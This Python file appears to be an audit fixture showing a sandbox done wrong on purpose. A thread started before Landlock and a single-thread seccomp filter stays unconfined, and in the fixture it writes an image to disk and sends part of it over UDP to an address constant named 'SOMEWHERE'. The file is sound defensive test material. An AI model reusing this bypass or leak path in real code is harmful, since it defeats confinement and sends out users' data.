"""A thread that a jail does not reach: started before Landlock, and before a filter of one thread.

Landlock and a filter without TSYNC bind the thread that asks and those that it starts later.
A thread from before is free, and `/proc` shows only half of it; so the product refuses to
restrict a process with several threads, and tries its filter in each. Here it is done wrong.
"""

from __future__ import annotations

import queue
import socket
import threading
from contextlib import suppress
from pathlib import Path

from edge.audit.leaks.addresses import BY_MAIN_THREAD, BY_OLD_THREAD, SOMEWHERE
from firmware_cfg.confine.filters import refusals
from firmware_cfg.confine.kernel import Kernel
from firmware_cfg.confine.landlock import READ, restrict
from firmware_cfg.confine.native import PR_SET_NO_NEW_PRIVS, process_control
from firmware_cfg.confine.policies import VISION
from firmware_cfg.confine.seccomp import load

_WITHIN_S = 5.0


class OldThread:
    """A thread that was there before this one was restricted."""

    def __init__(self) -> None:
        """Start it, then restrict the thread that asks."""
        self._given: queue.SimpleQueue[bytes] = queue.SimpleQueue()
        self._done = threading.Event()
        threading.Thread(target=self._run, daemon=True).start()
        process_control(PR_SET_NO_NEW_PRIVS, 1)
        restrict(Kernel.ask().landlock_abi, {Path("/"): READ}, {})
        load(refusals(VISION), default_error=0, every_thread=False)

    def leak(self, picture: bytes) -> None:
        """Let the old thread write the picture and send some of it; this one cannot."""
        with suppress(OSError):
            BY_MAIN_THREAD.write_bytes(picture)
        self._given.put(picture)
        self._done.wait(_WITHIN_S)

    def _run(self) -> None:
        picture = self._given.get()
        with suppress(OSError):
            BY_OLD_THREAD.write_bytes(picture)
        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(picture[:1000], SOMEWHERE)
        self._done.set()
